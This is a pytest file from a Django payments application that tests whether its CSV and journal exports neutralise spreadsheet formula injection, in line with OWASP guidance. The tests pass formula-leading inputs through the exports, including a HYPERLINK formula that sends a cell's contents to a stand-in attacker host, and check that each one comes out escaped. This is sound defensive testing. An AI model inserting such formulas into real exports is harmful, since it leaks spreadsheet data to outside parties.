"""One CSV writer for people: `;`, UTF-8 with BOM, CRLF, formulas neutralised (OWASP)."""

import csv
import io

import pytest
import time_machine
from django.test import Client

from core.csv import people_csv_text
from journals import files
from operations.services import transaction_refund
from tests.factories import UserFactory, grant, make_merchant, make_transaction
from tests.operations.conftest import NOW
from transactions.models import Status

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=2+5", "'=2+5"),
        ("+33 1 23", "'+33 1 23"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("CMD-42", "CMD-42"),
        (-1050, "-1050"),
        (None, ""),
    ],
)
def test_a_formula_looking_cell_is_neutralised_and_a_number_kept(cell, written):
    text = people_csv_text([[cell]])

    assert text.startswith("\ufeff")
    assert text.endswith("\r\n")
    assert next(csv.reader(io.StringIO(text[1:]), delimiter=";")) == [written]


def _rows(response):
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def operator_client(db):
    shop = make_merchant()
    user = UserFactory(username="csv-operator")
    grant(user, "OPERATOR", merchant=shop)
    client = Client()
    client.force_login(user)
    return client, shop, user


def test_the_transactions_export_neutralises_formulas(operator_client):
    client, shop, _user = operator_client
    # Stored before the feed refused formula signs (the feed now refuses order_id "=2+5").
    make_transaction(shop, order_id="=2+5", customer_email=HYPERLINK, return_context="@x")

    rows = _rows(client.get("/transactions/export.csv"))

    header, row = rows[0], rows[1]
    assert row[header.index("order_id")] == "'=2+5"
    assert row[header.index("customer_email")] == "'" + HYPERLINK
    assert row[header.index("return_context")] == "'@x"


def test_the_operations_export_neutralises_formulas(operator_client):
    client, shop, user = operator_client
    # A stated morning, out of the remittance window (no operation then).
    with time_machine.travel(NOW, tick=True):
        t = make_transaction(shop, status=Status.CAPTURED, captured_amount=10000)
        user.username = "-evil"
        user.save()
        transaction_refund(transaction=t, amount=100, user=user, channel="WEB")

        rows = _rows(client.get("/operations/?export=csv"))

    header, row = rows[0], rows[1]
    assert row[header.index("user")] == "'-evil"
    assert row[header.index("amount")] == "1,00"


def test_a_journal_never_carries_a_formula_unescaped():
    import datetime as dt

    text, count, _totals = files.render(
        kind="OPERATIONS",
        merchant_id="1",
        journal_date=dt.date(2026, 11, 27),
        generated_at=dt.datetime(2026, 11, 27, 3, 0, tzinfo=dt.UTC),
        sequence=1,
        rows=[
            (
                1, dt.date(2026, 11, 26), "000001", dt.datetime(2026, 11, 26, 9, tzinfo=dt.UTC),
                "CREDIT", 100, "978", "00", "WEB", "-old", "CAPTURED", "TO_CREDIT", "+evil", None,
                "=2+5",
            )
        ],
    )  # fmt: skip

    line = text.splitlines()[2].split(";")
    assert line[10] == "'-old"  # an origin stored before the rule that refuses it
    assert line[13] == "'+evil"
    assert line[15] == "'=2+5"
